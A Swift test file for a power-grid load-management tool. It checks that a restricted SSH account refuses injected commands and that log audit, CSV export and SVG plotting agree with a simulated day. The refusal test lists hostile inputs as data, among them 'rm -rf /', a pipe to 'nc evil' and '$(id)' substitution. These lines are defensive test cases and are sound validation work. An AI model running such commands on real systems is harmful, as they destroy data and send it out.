import Foundation
import LMCTestSupport
import Testing

/// `lmc log ssh-command`: what the DNO's forced-command account may and may not run.
@Suite struct SSHCommandTests {
    func ssh(_ command: String, dir: String) throws -> (status: Int32, out: String, err: String) {
        try run(Repo.lmc, ["log", "ssh-command", "--dir", dir], environment: ["SSH_ORIGINAL_COMMAND": command, "PATH": "/usr/bin:/bin"])
    }

    @Test func refusesAnythingButTheReadOnlyLogCommands() throws {
        let dir = "/tmp/lmc-ssh-\(getpid())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let refused: [(String, String)] = [
            ("", "no command given"),
            ("log export --ring events; rm -rf /", "character ';' is not allowed"),
            ("log export --ring events | nc evil 1", "character '|' is not allowed"),
            ("log export --ring $(id)", "character '$' is not allowed"),
            ("log export --ring 'events'", "character ''' is not allowed"),
            ("log export --ring events > /etc/passwd", "character '>' is not allowed"),
            ("override set --site hub --kw 0 --for 1h", "only 'log …' commands are allowed"),
            ("reset-lockout", "only 'log …' commands are allowed"),
            ("log ssh-command", "'log ssh-command' is not allowed"),
            ("log export --ring events --dir /etc", "character '/' is not allowed"),
            ("log export --ring events --dir etc", "'--dir' is not an allowed option"),
            ("bash", "only 'log …' commands are allowed"),
            ("log trips --dir etc", "'--dir' is not an allowed option of log trips"),
        ]
        for (command, why) in refused {
            let r = try ssh(command, dir: dir)
            #expect(r.status == 1, "\(command)")
            #expect(r.err.contains("refused: \(why)"), "\(command): \(r.err)")
            #expect(r.err.contains("Allowed: log info"))
        }
    }

    @Test func runsTheAllowedOnes() throws {
        let dir = "/tmp/lmc-ssh-ok-\(getpid())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        // A ring with a few events, written by the crash-test writer's format (samples ring).
        let w = try run(Repo.lmc, ["_ring-test-writer", "--path", "\(dir)/samples.ring", "--count", "10", "--capacity", "64"])
        #expect(w.status == 0, "\(w.err)")
        let info = try ssh("log info", dir: dir)
        #expect(info.status == 0, "\(info.err)")
        #expect(info.out.contains("samples: ") && info.out.contains("holds 10"))
        // --json is kept (it was dropped: ssh-command rebuilt `log info` without its options).
        let json = try ssh("log info --json", dir: dir)
        #expect(json.status == 0 && json.out.hasPrefix("{") && json.out.contains("\"rings\""), "\(json.out) \(json.err)")
        let viaLmc = try ssh("lmc log info", dir: dir)
        #expect(viaLmc.status == 0)
        let bad = try ssh("log export --ring halfyears", dir: dir)
        #expect(bad.status != 0 && bad.err.contains("--ring 'halfyears' is not samples, minutes, halfhours or events"))
        // The trip records: no trips ring yet is said so; the commands themselves are allowed.
        let trips = try ssh("log trips", dir: dir)
        #expect(!trips.err.contains("refused") && trips.err.contains("trips.ring"), "\(trips.err)")
        let trip = try ssh("log export --trip 1", dir: dir)
        #expect(!trip.err.contains("refused") && trip.err.contains("trips.ring"), "\(trip.err)")
    }
}

/// A ring whose configured size changed: `lmc log info` says what the resize did and lists the old file.
@Suite struct ResizedRingInfoTests {
    @Test func infoSaysARingWasResizedAndWhereTheRestIs() throws {
        let dir = "/tmp/lmc-resized-\(getpid())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let path = "\(dir)/samples.ring"
        #expect(try run(Repo.lmc, ["_ring-test-writer", "--path", path, "--count", "100", "--capacity", "64"]).status == 0)
        // Reopened at a quarter of the size: the newest 16 move, the old file is kept.
        let w = try run(Repo.lmc, ["_ring-test-writer", "--path", path, "--count", "0", "--capacity", "16"])
        #expect(w.status == 0 && w.out.contains("START 100"), "\(w.out) \(w.err)")
        let info = try run(Repo.lmc, ["log", "info", "--dir", dir])
        #expect(info.out.contains("samples: ") && info.out.contains("holds 16"), "\(info.out)")
        #expect(info.out.contains("from 64 records of 64 B to 16 of 64 B: 16 of 64 records moved; the 48 that did not fit stay in \(path).before-resize-1"), "\(info.out)")
        #expect(info.out.contains("kept from before a resize: \(path).before-resize-1 (64 records of 64 B), holds 64"), "\(info.out)")
        let json = try jsonObject(try run(Repo.lmc, ["log", "info", "--dir", dir, "--json"]).out)
        let samples = try #require((json["rings"] as? [[String: Any]])?.first { $0["name"] as? String == "samples" })
        #expect((samples["resized"] as? String)?.contains("16 of 64 records moved") == true && samples["kept_before_resize"] as? [String] == ["\(path).before-resize-1"])
    }
}

/// The DNO's day review: a simulated day written as the daemon writes it, then audited, exported and
/// plotted — and the numbers agree with the simulation's own accounting.
@Suite(.serialized) struct AuditAndPlotTests {
    static let dir = "/tmp/lmc-audit-\(getpid())"
    static let scenario = Repo.root.appendingPathComponent("scenarios/seed-example-day.csv").path

    /// Runs the example day once into `dir`; the simulation's JSON report, or why there is none (each
    /// test that needs it then fails with that reason instead of the whole test process trapping).
    static let simulated: Result<[String: Double], PeerError> = {
        try? FileManager.default.removeItem(atPath: dir)
        guard FileManager.default.isReadableFile(atPath: scenario) else { return .failure(PeerError("scenario \(scenario) is missing")) }
        guard let r = try? run(Repo.lmc, ["simulate", "--scenario", scenario, "--log-dir", dir, "--start", "2026-11-20", "--json"]) else {
            return .failure(PeerError("lmc simulate did not run (\(Repo.lmc))"))
        }
        guard r.status == 0 else { return .failure(PeerError("lmc simulate exited \(r.status): \(r.err)")) }
        guard let o = (try? JSONSerialization.jsonObject(with: Data(r.out.utf8))) as? [String: Any] else {
            return .failure(PeerError("lmc simulate --json printed no JSON object: \(r.out)"))
        }
        return .success(o.compactMapValues { ($0 as? NSNumber)?.doubleValue })
    }()
    static var report: [String: Double] { get throws { try simulated.get() } }

    @Test func theAuditAgreesWithTheSimulation() throws {
        let report = try Self.report
        let r = try run(Repo.lmc, ["log", "audit", "--dir", Self.dir, "--day", "2026-11-20"])
        #expect(r.status == 0, "\(r.err)")
        let lines = r.out.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.allSatisfy { $0.count <= 80 }, "fits an 80-column console")
        #expect(r.out.contains("2026-11-20 (UTC), 48 of 48 half hours recorded"))
        #expect(r.out.contains("trafo: limit 500.0 kVA, trip 550.0 kVA"))
        // The day line: total seconds over the limit equal the simulation's count; energy imported equals
        // the energy the simulation delivered.
        let dayLines = lines.filter { $0.hasPrefix("day") }
        #expect(dayLines.count == 2, "\(r.out)")
        let overSeconds = Double(dayLines[0].split(separator: " ").reversed()[2])!
        #expect(abs(overSeconds - report["seconds_above_limit"]!) < 1)
        let kwh = dayLines[1].split(separator: " ").compactMap { Double($0) }
        #expect(abs(kwh[0] - report["delivered_kwh"]!) < 0.2, "\(dayLines[1]) vs \(report)")
        // Curtailment happens in the evening peak only.
        let row = { (t: String) in lines.first { $0.hasPrefix(t) && $0.contains("kW ") }! }
        #expect(row("03:00").contains(" 0.0 kWh"))
        #expect(!row("17:30").contains(" 0.0 kWh"), "\(row("17:30"))")
        // The replay runs the daemon's cycle: its start-up (10 samples, the box's delay) is the first
        // half hour's STARTUP; later, a site lagging a cut by 5 s is above its set point + 10 kW for a
        // second or so (NON_RESPONSE, far from the 30 s that trips). Nothing else.
        let notNormal = lines.drop { !$0.hasPrefix("seconds not NORMAL") }.dropFirst(2).prefix { !$0.isEmpty }
        #expect(notNormal.first.map { $0.hasPrefix("00:00") && $0.split(separator: " ").count == 2 } == true, "\(notNormal)")
        for row in notNormal.dropFirst() {
            let cols = row.split(separator: " ")
            #expect(cols.count == 2 && (Double(cols[1]) ?? 99) <= 5, "only brief NON_RESPONSE after noon: \(row)")
        }
        // Without --day: the newest day in the ring.
        let newest = try run(Repo.lmc, ["log", "audit", "--dir", Self.dir])
        #expect(newest.out == r.out)
        // A day with nothing recorded says so.
        let empty = try run(Repo.lmc, ["log", "audit", "--dir", Self.dir, "--day", "2026-11-21"])
        #expect(empty.status == 0 && empty.out.contains("0 of 48 half hours recorded") && empty.out.contains("no half hours recorded on this day"))
    }

    @Test func halfHoursExportRoundTripsThroughPythonsCSV() throws {
        let report = try Self.report
        let csv = try run(Repo.lmc, ["log", "export", "--ring", "halfhours", "--dir", Self.dir, "--from", "2026-11-20T12:00", "--to", "2026-11-20T23:59"])
        #expect(csv.status == 0, "\(csv.err)")
        let path = "\(Self.dir)/hh.csv"
        try csv.out.write(toFile: path, atomically: true, encoding: .utf8)
        let parsed = try run(Repo.python, ["-c", """
        import csv, json, sys
        rows = list(csv.DictReader(open(sys.argv[1])))
        print(json.dumps({"n": len(rows), "first": rows[0]["period_start"], "over": sum(float(r["trafo_s_beyond_limit"]) for r in rows),
                          "peak": max(float(r["trafo_max"]) for r in rows), "unit": rows[0]["trafo_unit"],
                          "curtailed": sum(float(r["hub_curtailed_kwh"]) for r in rows), "normal": sum(float(r["s_NORMAL"]) for r in rows)}))
        """, path])
        let o = try jsonObject(parsed.out)
        #expect(o["n"] as? Int == 24, "12:00 to 23:30")
        #expect(o["first"] as? String == "2026-11-20T12:00:00.000Z")
        #expect(abs((o["over"] as! Double) - report["seconds_above_limit"]!) < 1, "all of the day's overload is after noon")
        #expect(abs((o["peak"] as! Double) - 500_000 - report["largest_overshoot_kva"]! * 1000) < 100)
        #expect(o["unit"] as? String == "VA")
        #expect((o["curtailed"] as! Double) > 100)
        // The replay runs the daemon's cycle: its start-up (10 samples and the box's delay) is not NORMAL.
        #expect((o["normal"] as! Double) >= 12 * 3600 - 120)
    }

    @Test func thePlotIsAValidSVGWithEveryPanel() throws {
        _ = try Self.report
        let r = try run(Repo.lmc, ["log", "plot", "--dir", Self.dir, "--from", "2026-11-20T12:00", "--to", "2026-11-20T22:00", "--width", "1000"])
        #expect(r.status == 0, "\(r.err)")
        let path = "\(Self.dir)/plot.svg"
        try r.out.write(toFile: path, atomically: true, encoding: .utf8)
        let parsed = try run(Repo.python, ["-c", """
        import json, sys, xml.etree.ElementTree as ET
        root = ET.parse(sys.argv[1]).getroot()
        ns = "{http://www.w3.org/2000/svg}"
        texts = [t.text for t in root.iter(ns + "text")]
        print(json.dumps({"width": root.get("width"), "polylines": len(list(root.iter(ns + "polyline"))),
                          "texts": texts}))
        """, path])
        #expect(parsed.status == 0, "the SVG parses as XML: \(parsed.err)")
        let o = try jsonObject(parsed.out)
        let texts = o["texts"] as! [String]
        #expect(o["width"] as? String == "1000")
        #expect(texts.contains("trafo (kVA)") && texts.contains("sites (kW)") && texts.contains("hub set point") && texts.contains("limit"))
        #expect(texts.contains("18:00"), "a time axis in UTC")
        // value, limit, trip, set point and import at least.
        #expect((o["polylines"] as! Int) >= 5)
        let bad = try run(Repo.lmc, ["log", "plot", "--dir", Self.dir, "--from", "2026-11-20T12:00", "--to", "2026-11-20T11:00"])
        #expect(bad.status != 0 && bad.err.contains("--to '2026-11-20T11:00' is not after --from '2026-11-20T12:00'"))
    }

    @Test func theDNOsAccountMayAuditAndPlot() throws {
        _ = try Self.report
        let s = SSHCommandTests()
        let audit = try s.ssh("log audit --day 2026-11-20", dir: Self.dir)
        #expect(audit.status == 0 && audit.out.contains("48 of 48 half hours recorded"), "\(audit.err)")
        let plot = try s.ssh("log plot --from 2026-11-20T16:00 --to 2026-11-20T18:00", dir: Self.dir)
        #expect(plot.status == 0 && plot.out.hasPrefix("<svg"), "\(plot.err)")
        let export = try s.ssh("log export --ring halfhours --from 2026-11-20", dir: Self.dir)
        #expect(export.status == 0 && export.out.split(separator: "\n").count == 49)
        let refused = try s.ssh("log audit --dir etc", dir: Self.dir)
        #expect(refused.status == 1 && refused.err.contains("'--dir' is not an allowed option of log audit"))
        let badDay = try s.ssh("log audit --day 2026-13-01", dir: Self.dir)
        #expect(badDay.status != 0 && badDay.err.contains("--day '2026-13-01' is not a UTC date"))
    }
}

/// The fuzz corpus and every input that once found something (Fuzz/), through the plain replayer.
@Suite struct FuzzRegressions {
    @Test(arguments: ["config", "registers", "oscp", "ring", "ssh", "time", "control", "mbserver", "oscpclient", "dnp3"])
    func theFuzzCorpusAndEveryPastFindingReplayCleanly(target: String) throws {
        let fuzz = (Repo.lmc as NSString).deletingLastPathComponent + "/lmc-fuzz"
        var dirs = [Repo.root.appendingPathComponent("Fuzz/corpus/\(target)").path]
        let regressions = Repo.root.appendingPathComponent("Fuzz/regressions/\(target)").path
        if FileManager.default.fileExists(atPath: regressions) { dirs.append(regressions) }
        let r = try run(fuzz, [target] + dirs, environment: ["LMC_HW_DIR": Repo.root.appendingPathComponent("hw").path])
        #expect(r.status == 0, "\(r.out)\(r.err)")
        #expect(r.out.contains("no crash"))
    }

    @Test func datesAreStrict() throws {
        // Found by review for the time target: these crashed or were misread.
        for bad in ["", "99999999999-01-01", "2026-xx-01-05", "2026-11-01T", "2026-11-01T25:00", "2026-11-01T10:00:61", "1969-12-31"] {
            let r = try run(Repo.lmc, ["log", "export", "--ring", "events", "--dir", "/nonexistent", "--from", bad])
            #expect(r.status != 0 && r.err.contains("is not a UTC date or time"), "'\(bad)': \(r.err)")
        }
    }
}
